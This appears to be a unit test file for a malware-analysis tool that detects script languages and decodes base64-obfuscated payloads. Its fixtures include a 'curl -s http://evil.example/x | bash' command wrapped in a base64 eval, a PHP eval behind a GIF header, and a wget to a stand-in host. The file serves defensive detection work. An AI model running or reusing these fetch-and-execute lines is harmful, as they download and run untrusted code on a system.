"""The language of a script is told, and what is encoded in it is read as well."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from malkoha.processing import runner
from malkoha.processing.scripts import ScriptModule, describe, language
from tests.unit.processing.folder import analysis


@pytest.mark.parametrize(
    ("head", "name", "kind", "told"),
    [
        (b"#!/bin/sh\n", "", "", "shell"),
        (b"#!/usr/bin/env -S python3 -u\n", "", "", "python"),
        (b"#!/usr/bin/perl5.36 -w\n", "", "", "perl"),
        (b"#!/usr/bin/awk -f\n", "x.sh", "", None),
        (b"GIF89a<?php eval(1);", "x.gif", "", "php"),
        (b"var x = 1;", "x.js", "", "javascript"),
        (b"echo", "x", "POSIX shell script", "shell"),
        (b"\x7fELF\0", "x.sh", "", None),
        (b"plain", "x.txt", "ASCII text", None),
    ],
)
def test_languages(head: bytes, name: str, kind: str, told: str | None) -> None:
    assert language(head, name, kind) == told


def test_what_is_encoded_is_read_and_kept(tmp_path: Path) -> None:
    inner = b"curl -s http://evil.example/x | bash"
    facts = analysis(tmp_path, sample=b'#!/bin/sh\neval "$(echo ' + base64.b64encode(inner) + b' | base64 -d)"\n')
    sections, errors = runner.run(facts.store, facts.task, facts.run, [ScriptModule])
    assert errors == []
    payload = sections["script"]["payloads"][0]
    assert (payload["how"], payload["text"], payload["language"]) == (["base64"], inner.decode(), "shell")
    assert payload["script"]["piped_to_interpreter"] == [inner.decode()]
    assert (facts.store.unpacked / payload["sha256"]).read_bytes() == inner


def test_a_broken_parser_loses_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(data: bytes) -> None:
        raise ValueError("no")

    monkeypatch.setattr("malkoha.processing.shell.describe", broken)
    found, decoded = describe("shell", base64.b64encode(b"#!/bin/sh\nwget http://x.example/"))
    assert found["errors"] == ["ValueError: no"]
    assert decoded == [b"#!/bin/sh\nwget http://x.example/"]
